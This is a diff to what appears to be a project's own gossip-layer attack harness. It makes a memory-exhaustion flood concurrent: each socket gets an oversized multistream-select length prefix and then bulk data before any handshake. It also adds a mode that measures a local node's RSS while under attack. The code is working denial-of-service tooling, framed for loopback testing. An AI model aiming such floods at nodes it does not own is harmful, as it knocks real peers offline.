@@ -6,7 +6,7 @@ in docs/gossip.md; loopback only, never aim it at a node that is not yours.
     python scripts/attack_gossip.py mss-prefix ADDR [--connections 8] [--mib 64]
     python scripts/attack_gossip.py streams ADDR [--streams 128] [--mib 16]
     python scripts/attack_gossip.py silent ADDR [--sockets 260] [--hold 30]
-    python scripts/attack_gossip.py rss PID [--attack ... as above, with --target ADDR]
+    python scripts/attack_gossip.py measure ATTACK [its options]   # a fresh node's RSS under it
 
 Each prints one line per stage (`started ...`, `done ...`) so that a caller can follow it.
 """
@@ -17,6 +17,7 @@ import argparse
 import os
 import socket
 import sys
+import threading
 import time
 from pathlib import Path
 
@@ -99,26 +100,29 @@ def junk(addr: str, senders: int) -> None:
 
 def mss_prefix(addr: str, connections: int, mib: int) -> None:
     """Raw TCP: a multistream-select length prefix of 1 GiB, then `mib` MiB of data, on each of
-    `connections` sockets, before any handshake. An unguarded 0.8.1 node buffers all of it."""
+    `connections` sockets at once, before any handshake. An unguarded 0.8.1 node buffers it all."""
     target = _tcp_target(addr)
-    prefix = _uvarint(1 << 30)
-    chunk = b"\x00" * (1 << 20)
-    socks = []
-    for _ in range(connections):
-        sock = socket.create_connection(target, timeout=10)
-        socks.append(sock)
-    _say("started", connections)
     sent = [0] * connections
-    for i, sock in enumerate(socks):
+
+    def flood(i: int) -> None:
+        chunk = b"\x00" * (1 << 20)
         try:
-            sock.sendall(prefix)
-            for _ in range(mib):
-                sock.sendall(chunk)
-                sent[i] += 1
+            with socket.create_connection(target, timeout=30) as sock:
+                sock.sendall(_uvarint(1 << 30))
+                for _ in range(mib):
+                    sock.sendall(chunk)
+                    sent[i] += 1
+                time.sleep(float(os.environ.get("ATTACK_HOLD", "3")))  # hold what it buffered
         except OSError as exc:
             _say(f"connection {i} closed after {sent[i]} MiB: {exc.strerror or exc}")
+
+    threads = [threading.Thread(target=flood, args=(i,)) for i in range(connections)]
+    for thread in threads:
+        thread.start()
+    _say("started", connections)
+    for thread in threads:
+        thread.join()
     _say("done", sum(sent), "MiB sent")
-    time.sleep(float(os.environ.get("ATTACK_HOLD", "5")))
 
 
 def _uvarint(value: int) -> bytes:
@@ -133,7 +137,56 @@ def _uvarint(value: int) -> bytes:
             return bytes(out)
 
 
+# ------------------------------------------------------------ measuring a node under attack
+
+
+def _status_kib(pid: int, field: str) -> int:
+    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
+        if line.startswith(field + ":"):
+            return int(line.split()[1])
+    raise SystemExit(f"no {field} for pid {pid}")
+
+
+def measure(attack_args: list[str]) -> None:
+    """Start a fresh `swarm peer` on loopback, run one attack on it from another process, and
+    print its RSS before, its peak (VmHWM) and after, in MiB, and whether it still serves."""
+    import json
+    import subprocess
+    import tempfile
+
+    root = Path(__file__).resolve().parents[1]
+    with tempfile.TemporaryDirectory() as home:
+        log = open(Path(home) / "node.log", "wb")  # noqa: SIM115  (closed below)
+        node = subprocess.Popen(
+            [sys.executable, "-m", "node.cli", "peer", "--campaign", "attack", "--listen",
+             LOOPBACK, "--home", home], stdout=log, stderr=subprocess.STDOUT, cwd=root,
+        )  # fmt: skip
+        try:
+            status = Path(home) / "gossip.json"
+            end = time.monotonic() + 60
+            while not status.exists() and time.monotonic() < end:
+                time.sleep(0.2)
+            addr = json.loads(status.read_text())["addrs"][0]
+            time.sleep(2)  # settle: imports done, first heartbeats
+            before = _status_kib(node.pid, "VmRSS")
+            run = subprocess.run([sys.executable, __file__, attack_args[0], addr, *attack_args[1:]],
+                                 capture_output=True, text=True, timeout=600)  # fmt: skip
+            peak, after = _status_kib(node.pid, "VmHWM"), _status_kib(node.pid, "VmRSS")
+            counts = json.loads(status.read_text())["counts"]
+            _say(run.stdout.strip().splitlines()[-1] if run.stdout.strip() else run.stderr[-300:])
+            _say(f"{' '.join(attack_args)}: RSS before {before / 1024:.0f} MiB, peak "
+                 f"{peak / 1024:.0f} MiB, after {after / 1024:.0f} MiB; node alive: "
+                 f"{node.poll() is None}; restarts {counts['restarts']}")  # fmt: skip
+        finally:
+            node.kill()
+            node.wait()
+            log.close()
+
+
 if __name__ == "__main__":
+    if len(sys.argv) > 1 and sys.argv[1] == "measure":
+        measure(sys.argv[2:])
+        raise SystemExit(0)
     parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
     parser.add_argument("attack", choices=["junk", "mss-prefix"])
     parser.add_argument("addr")
